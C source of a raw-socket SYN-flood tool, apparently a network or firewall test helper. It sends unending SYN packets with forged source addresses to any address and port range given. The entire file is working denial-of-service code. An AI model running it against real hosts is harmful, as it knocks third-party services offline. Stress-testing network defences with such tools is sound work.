/* SPDX-License-Identifier: GPL-2.0-or-later */
/*
 * synflood.c - beginnings of connections from addresses that nobody has, tens of thousands a
 * second, many times what the kernel keeps, until it is ended; as root
 *
 *	synflood ADDRESS FIRST-LAST	to these TCP ports, from 198.19.0.0/16
 */
#include <arpa/inet.h>
#include <netinet/in.h>
#include <netinet/ip.h>
#include <netinet/tcp.h>
#include <stdint.h>
#include <stdio.h>
#include <string.h>
#include <sys/prctl.h>
#include <sys/socket.h>
#include <unistd.h>

/* A pause after each burst leaves the processors to the gates, and to what is tested beside. */
#define BURST	 400
#define PAUSE_US 1000

struct packet {
	struct iphdr ip;
	struct tcphdr tcp;
};

/* What the TCP checksum covers beside its own header. */
struct summed {
	uint32_t from, to;
	uint16_t protocol, bytes; /* big-endian */
	struct tcphdr tcp;
};

static uint16_t checksum(const void *data, size_t bytes)
{
	const unsigned char *at = data;
	uint32_t sum = 0;

	for (size_t i = 0; i + 1 < bytes; i += 2)
		sum += (uint32_t)at[i] << 8 | at[i + 1];
	while (sum >> 16)
		sum = (sum & 0xffff) + (sum >> 16);
	return htons((uint16_t)~sum);
}

static void fill(struct packet *packet, struct in_addr to, uint32_t number, uint16_t port)
{
	struct summed summed = {.to = to.s_addr,
				.protocol = htons(IPPROTO_TCP),
				.bytes = htons(sizeof(packet->tcp))};

	*packet = (struct packet){.ip = {.version = 4,
					 .ihl = sizeof(packet->ip) / 4,
					 .tot_len = htons(sizeof(*packet)),
					 .ttl = 64,
					 .protocol = IPPROTO_TCP,
					 .saddr = htonl(0xc6130000 | (number & 0xffff)),
					 .daddr = to.s_addr},
				  .tcp = {.source = htons((uint16_t)(number % 1000 + 1)),
					  .dest = htons(port),
					  .seq = htonl(number),
					  .doff = sizeof(packet->tcp) / 4,
					  .syn = 1,
					  .window = htons(64240)}};
	summed.from = packet->ip.saddr;
	summed.tcp = packet->tcp;
	packet->tcp.check = checksum(&summed, sizeof(summed));
}

int main(int argc, char **argv)
{
	struct sockaddr_in to = {.sin_family = AF_INET};
	unsigned int first, last;
	int file = socket(AF_INET, SOCK_RAW, IPPROTO_RAW);

	prctl(PR_SET_PDEATHSIG, 9);
	if (argc != 3 || sscanf(argv[2], "%u-%u", &first, &last) != 2 || last < first ||
	    inet_pton(AF_INET, argv[1], &to.sin_addr) != 1)
		return 2;
	if (file < 0) {
		perror("synflood");
		return 1;
	}
	for (uint32_t i = 0;; i++) {
		struct packet packet;

		fill(&packet, to.sin_addr, i * 2654435761u,
		     (uint16_t)(first + i % (last - first + 1)));
		(void)!sendto(file, &packet, sizeof(packet), 0, (struct sockaddr *)&to, sizeof(to));
		if (i % BURST == BURST - 1)
			usleep(PAUSE_US);
	}
}
